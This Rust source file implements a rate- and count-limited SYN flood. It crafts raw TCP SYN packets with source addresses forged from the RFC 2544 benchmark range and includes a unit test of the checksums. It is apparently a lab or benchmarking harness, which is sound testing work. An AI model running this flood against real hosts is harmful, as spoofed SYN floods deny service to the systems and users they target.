//! A SYN flood: whole SYNs from addresses that nobody has, bounded in number and rate.
#![forbid(unsafe_code)]

use socket2::{Domain, Protocol, Socket, Type};
use std::{
    io,
    net::{Ipv4Addr, SocketAddrV4},
    thread,
    time::{Duration, Instant},
};

const IP: usize = 20;
const TCP: usize = 40;
/// Between two bursts.
const PAUSE: Duration = Duration::from_millis(1);

/// Sends `count` SYNs to `address` at `rate` a second from the namespace of the calling thread, and says how long that took.
///
/// # Errors
/// The kernel takes no raw packets.
pub fn send(address: SocketAddrV4, count: u32, rate: u32) -> io::Result<Duration> {
    // With this protocol the kernel takes whole IP packets (raw(7)).
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(255)))?;
    let to = address.into();
    let begin = Instant::now();
    let mut sent = 0;
    while sent < count {
        let due = begin.elapsed().as_micros() * u128::from(rate) / 1_000_000;
        while u128::from(sent) < due && sent < count {
            match socket.send_to(&syn(address, sent), &to) {
                Ok(_) => sent += 1,
                // The queue is full.
                Err(error) if error.raw_os_error() == Some(libc::ENOBUFS) => break,
                Err(error) => return Err(error),
            }
        }
        thread::sleep(PAUSE);
    }
    Ok(begin.elapsed())
}

/// SYN number `number`, as Linux sends them: MSS, SACK, timestamps, window scale.
fn syn(to: SocketAddrV4, number: u32) -> [u8; IP + TCP] {
    // Knuth's multiplicative hash: a bijection, so that no two SYNs are of one address and port.
    let random = number.wrapping_mul(2_654_435_761);
    // 198.18.0.0/15, which is for benchmarks (RFC 2544).
    let from = Ipv4Addr::from_bits(0xc612_0000 | random >> 15);
    let port = 1024 + (random & 0x7fff) as u16;
    let mut packet = [0; IP + TCP];
    let mut put = |at: usize, bytes: &[u8]| packet[at..at + bytes.len()].copy_from_slice(bytes);
    // The kernel fills in length and checksum of the IP header.
    put(0, &[0x45, 0, 0, 0, 0, 0, 0x40, 0, 64, 6, 0, 0]);
    put(12, &from.octets());
    put(16, &to.ip().octets());
    put(IP, &port.to_be_bytes());
    put(IP + 2, &to.port().to_be_bytes());
    put(IP + 4, &random.rotate_left(16).to_be_bytes());
    put(IP + 12, &[0xa0, 0x02, 0xfa, 0xf0]);
    put(IP + 20, &[2, 4, 0x05, 0xb4, 4, 2, 8, 10]);
    put(IP + 28, &number.wrapping_add(1).to_be_bytes());
    put(IP + 36, &[1, 3, 3, 7]);
    let checksum = checksum(&packet);
    packet[IP + 16..IP + 18].copy_from_slice(&checksum.to_be_bytes());
    packet
}

/// The TCP checksum (RFC 9293 §3.1): over the pseudo-header, which begins with the IP header's addresses, and the segment.
fn checksum(packet: &[u8; IP + TCP]) -> u16 {
    let words = packet[12..].as_chunks::<2>().0.iter().map(|word| u32::from(u16::from_be_bytes(*word)));
    let mut sum = words.sum::<u32>() + 6 + TCP as u32;
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn syns_are_right_and_different() {
        let to = SocketAddrV4::new(Ipv4Addr::new(10, 0, 0, 1), 80);
        let packets: HashSet<_> = (0..10_000).map(|number| syn(to, number)).collect();
        assert_eq!(packets.len(), 10_000);
        for packet in packets {
            // Over a packet with its checksum in place, the checksum is 0.
            assert_eq!(checksum(&packet), 0);
            assert!(packet[12] == 198 && matches!(packet[13], 18 | 19));
        }
    }
}
